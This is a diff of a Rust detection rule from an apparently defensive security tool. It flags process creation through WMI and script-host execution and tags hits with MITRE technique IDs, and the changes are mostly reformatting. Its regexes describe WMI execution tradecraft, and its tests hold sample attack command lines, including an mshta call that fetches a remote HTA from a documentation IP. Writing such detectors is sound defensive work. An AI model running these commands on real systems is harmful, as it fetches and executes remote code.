@@ -59,9 +59,8 @@ static META: Meta = Meta {
     ],
 };
 
-static CREATE: LazyLock<Option<Regex>> = LazyLock::new(|| {
-    Regex::new(r"(?i)\bwmic(?:\.exe)?\b.{0,400}?\bprocess\b.{0,200}?\bcall\s+create\b").ok()
-});
+static CREATE: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r"(?i)\bwmic(?:\.exe)?\b.{0,400}?\bprocess\b.{0,200}?\bcall\s+create\b").ok());
 
 static POWERSHELL: LazyLock<Option<Regex>> = LazyLock::new(|| {
     Regex::new(r#"(?is)(?:invoke-wmimethod|invoke-cimmethod|\biwmi\b|\bicim\b).{0,300}?win32_process\b.{0,200}?create|(?:\[wmiclass\]|managementclass).{0,120}?win32_process\b.{0,300}?create"#).ok()
@@ -78,14 +77,8 @@ impl Signal for Script03 {
         }
         for block in blocks(rows.table(&script::TABLE)) {
             if block.text.len() <= MAX_SCRIPT as usize && is(&POWERSHELL, &block.text) {
-                let explain = format!(
-                    "a script starts a process through WMI: {}",
-                    quote(&block.text)
-                );
-                hits.push(
-                    Hit::at(&META, block.row, "powershell:win32_process", explain)
-                        .techniques(&["T1047"]),
-                );
+                let explain = format!("a script starts a process through WMI: {}", quote(&block.text));
+                hits.push(Hit::at(&META, block.row, "powershell:win32_process", explain).techniques(&["T1047"]));
             }
         }
     }
@@ -100,11 +93,7 @@ fn judge(row: Row<'_>) -> Option<Hit> {
     let plain = line.replace(['^', '"'], "");
     let (key, what, techniques): (String, &str, Vec<&'static str>) =
         if starts::is_one_of(row, &["wmic"]) && is(&CREATE, &plain) {
-            (
-                "wmic:create".to_owned(),
-                "wmic starts a process",
-                vec!["T1047"],
-            )
+            ("wmic:create".to_owned(), "wmic starts a process", vec!["T1047"])
         } else if starts::is_one_of(row, &["powershell", "pwsh"]) && is(&POWERSHELL, line) {
             (
                 "powershell:win32_process".to_owned(),
@@ -124,8 +113,7 @@ fn judge(row: Row<'_>) -> Option<Hit> {
                 "a script host runs a script from outside",
                 vec![own],
             )
-        } else if row.str(t::PARENT_NAME) == "wmiprvse.exe" && starts::is_one_of(row, INTERPRETERS)
-        {
+        } else if row.str(t::PARENT_NAME) == "wmiprvse.exe" && starts::is_one_of(row, INTERPRETERS) {
             let (image, _) = names(row);
             let own = technique_of(&image, line).filter(|id| id.starts_with("T1059"));
             (
@@ -136,8 +124,7 @@ fn judge(row: Row<'_>) -> Option<Hit> {
         } else {
             return None;
         };
-    let mut hit =
-        Hit::at(&META, row, key, format!("{what}: {}", command(row))).techniques(&techniques);
+    let mut hit = Hit::at(&META, row, key, format!("{what}: {}", command(row))).techniques(&techniques);
     hit.iocs = starts::iocs(row);
     Some(hit)
 }
@@ -192,12 +179,7 @@ mod tests {
                 r"cscript //nologo C:\Users\Public\a.vbs",
                 "T1059.005",
             ),
-            (
-                "mshta.exe",
-                "cmd.exe",
-                "mshta http://192.0.2.1/a.hta",
-                "T1218.005",
-            ),
+            ("mshta.exe", "cmd.exe", "mshta http://192.0.2.1/a.hta", "T1218.005"),
             ("powershell.exe", "wmiprvse.exe", "powershell -c x", "T1047"),
             (
                 "powershell.exe",
@@ -206,11 +188,7 @@ mod tests {
                 "T1047",
             ),
         ] {
-            assert_eq!(
-                technique(image, parent, line).as_deref(),
-                Some(expected),
-                "{line}"
-            );
+            assert_eq!(technique(image, parent, line).as_deref(), Some(expected), "{line}");
         }
     }
 
